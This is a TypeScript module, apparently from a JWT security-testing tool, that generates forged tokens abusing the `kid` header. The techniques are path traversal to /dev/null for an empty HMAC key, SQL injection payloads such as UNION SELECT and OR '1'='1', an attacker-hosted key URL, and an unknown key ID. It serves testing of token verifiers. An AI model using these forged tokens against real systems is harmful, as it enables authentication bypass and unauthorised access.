import { randomBytes } from 'node:crypto';
import type { ForgedAttack } from '../attack-types.js';
import { attackerKeyFor, signWith } from '../attack-signer.js';
import { forgeToken, withHeader, type CatalogueContext } from './catalogue-context.js';

/** The secret that injected SQL and the URL `kid` make a vulnerable lookup return. */
const INJECTED_SECRET = 'tessera-attack-key';

/**
 * `kid` used as a file name, a database query or a URL (RFC 8725 §3.10): path traversal to
 * an empty file (the HMAC key becomes empty), SQL injection that selects a known secret, a
 * URL on the attacker server that serves one, and a `kid` the target does not know, signed
 * with the attacker's key (a verifier must not fall back to "any key" or to no check).
 *
 * @example
 * const attacks = buildKidAttacks(context);
 */
export function buildKidAttacks(context: CatalogueContext): ForgedAttack[] {
  const { parts } = context;
  const hs256 = (kid: string, secret: Buffer | string) =>
    forgeToken(withHeader(parts, { alg: 'HS256', kid }), parts.payload, (input) =>
      signWith('HS256', Buffer.from(secret), input),
    );
  const attacks: ForgedAttack[] = [];
  for (const [name, kid] of [
    ['path-traversal-dev-null', '../../../../../../../../dev/null'],
    ['absolute-dev-null', '/dev/null'],
  ] as const) {
    attacks.push({
      id: `kid/${name}`,
      category: 'kid',
      sent: `alg HS256, kid "${kid}", signed with an empty HMAC key`,
      token: hs256(kid, Buffer.alloc(0)),
    });
  }
  for (const [name, kid] of [
    ['sql-union', `x' UNION SELECT '${INJECTED_SECRET}' -- `],
    ['sql-union-numeric', `0 UNION SELECT '${INJECTED_SECRET}'`],
    ['sql-or-true', `x' OR '1'='1`],
  ] as const) {
    attacks.push({
      id: `kid/${name}`,
      category: 'kid',
      sent: `alg HS256, kid ${JSON.stringify(kid)}, signed with "${INJECTED_SECRET}"`,
      token: hs256(kid, INJECTED_SECRET),
    });
  }
  const url = context.publish('kid', { contentType: 'text/plain', body: INJECTED_SECRET });
  attacks.push({
    id: 'kid/url',
    category: 'kid',
    sent: `alg HS256, kid = ${url} (serves "${INJECTED_SECRET}"), signed with that`,
    token: hs256(url, INJECTED_SECRET),
    watchPaths: [new URL(url).pathname],
  });
  const unknownKid = `tessera-attack-${randomBytes(6).toString('hex')}`;
  const { alg, key } = attackerKeyFor(String(parts.header['alg']), context.attackerKeys);
  attacks.push({
    id: 'kid/unknown-key',
    category: 'kid',
    sent: `alg ${alg}, kid "${unknownKid}" (no such key), signed with the attacker's key`,
    token: forgeToken(withHeader(parts, { alg, kid: unknownKid }), parts.payload, (input) =>
      signWith(alg, key, input),
    ),
  });
  return attacks;
}
